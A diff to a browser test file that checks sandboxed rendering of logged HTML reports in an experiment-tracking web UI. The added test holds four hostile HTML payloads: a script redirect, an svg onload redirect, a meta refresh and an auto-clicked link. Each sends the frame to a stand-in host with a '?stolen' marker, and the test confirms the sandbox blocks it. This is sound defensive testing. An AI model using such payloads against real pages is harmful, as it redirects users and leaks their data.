@@ -149,7 +149,7 @@ def test_a_page_of_html_has_no_scripts_no_network_and_no_way_to_this_page(show: 
     page = show(log_full_run()).page
     page.get_by_role("tab", name="files").click()
     page.locator(".jt-file", has_text="report.html").click()
-    said = page.frame_locator(".jt-sandbox").locator("#said")
+    said = page.frame_locator(".jt-sandbox").frame_locator("iframe").locator("#said")
     expect(said).to_have_text("quiet")
     sandbox = page.locator(".jt-sandbox")
     expect(sandbox).to_have_attribute("sandbox", "")
@@ -160,6 +160,37 @@ def test_a_page_of_html_has_no_scripts_no_network_and_no_way_to_this_page(show: 
     page.evaluate("() => fetch('http://elsewhere.test/asked')")
     assert elsewhere == ["http://elsewhere.test/asked"], "a request that nothing holds back is seen here"
     elsewhere.clear()
+
+
+@pytest.mark.parametrize(
+    "way",
+    [
+        '<script>location = "http://elsewhere.test/?stolen"</script>',
+        '<svg onload="location.assign(`http://elsewhere.test/?stolen`)">',
+        '<meta http-equiv="refresh" content="0; url=http://elsewhere.test/"><script></script>',
+        '<a href="http://elsewhere.test/">there</a><script>document.querySelector("a").click()</script>',
+    ],
+)
+def test_a_page_of_html_leads_its_frame_to_no_other_host(show: Show, way: str) -> None:
+    with tracking.start_run(run_name="leaver") as run:
+        run.log_text(f"<p id=said>here</p>{way}", "report.html")
+    page = show(run.run_id).page
+    page.get_by_role("tab", name="files").click()
+    page.get_by_role("button", name="run its scripts").click()
+    # Kept from where it wanted to go, the frame is empty.
+    expect(page.frame_locator(".jt-sandbox").frame_locator("iframe").locator("#said")).to_have_count(0)
+
+
+def test_a_link_to_a_place_in_a_page_of_html_leads_there(show: Show) -> None:
+    with tracking.start_run(run_name="long") as run:
+        run.log_text(
+            "<a href='#end'>to the end</a><div style='height: 4000px'></div><p id=end>the end</p>", "long.html"
+        )
+    page = show(run.run_id).page
+    page.get_by_role("tab", name="files").click()
+    shown = page.frame_locator(".jt-sandbox").frame_locator("iframe")
+    shown.get_by_text("to the end").click()
+    expect(shown.locator("#end")).to_be_in_viewport()
 
 
 def test_a_download_is_of_no_type_that_a_browser_would_show(show: Show) -> None:
